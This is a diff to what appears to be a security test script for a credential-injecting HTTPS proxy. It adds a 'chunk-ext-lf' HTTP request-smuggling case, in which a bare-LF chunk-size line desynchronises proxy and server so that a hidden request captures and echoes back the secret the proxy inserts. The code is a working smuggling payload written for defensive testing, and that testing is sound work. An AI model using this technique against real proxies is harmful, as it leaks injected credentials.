@@ -5,7 +5,12 @@ HTTPS_PROXY, speaks TLS trusting SSL_CERT_FILE (jail's bundle, the run CA includ
 requests named ATTACK with the placeholder in $K, and prints everything that comes back.
 
 Attacks (each against a leniency tests/helpers/https_lenient.py models):
-- trace: a TRACE with the placeholder in Authorization; the server echoes the request."""
+- trace: a TRACE with the placeholder in Authorization; the server echoes the request.
+- chunk-ext-lf: a chunk-size line ended by a bare LF. The proxy read it as the line's end, a
+  server that ends these lines at CRLF only reads the next bytes as a chunk extension, so the two
+  disagree on where the body ends: the server takes a request hidden in the body for a real one,
+  whose Content-Length swallows the next request the proxy puts the value into, and quotes it
+  back."""
 import os
 import socket
 import ssl
@@ -26,6 +31,21 @@ padding = head(b"GET /four HTTP/1.1", b"X-Pad: " + b"p" * 400)
 
 if attack == "trace":
     stream = head(b"TRACE /trace HTTP/1.1", b"Authorization: Bearer " + placeholder)
+elif attack == "chunk-ext-lf":
+    # What the server reads as a request of its own, after the body it sees ends.
+    swallow = 2 + 5 + len(with_value) + 200
+    hidden = b"\r\n0\r\n\r\n" + head(b"POST /two HTTP/1.1", b"Content-Length: %d" % swallow)
+    size = b"%x" % len(hidden)
+    k = len(size) + 2
+    data = b"y" * k + b"\r\n" + b"z" * (64 - k - 2)
+    stream = (
+        head(b"POST /one HTTP/1.1", b"Transfer-Encoding: chunked")
+        + b"40;\n" + data + b"\r\n"
+        + size + b"\r\n" + hidden + b"\r\n"
+        + b"0\r\n\r\n"
+        + with_value
+        + padding
+    )
 else:
     sys.exit("unknown attack " + attack)
 
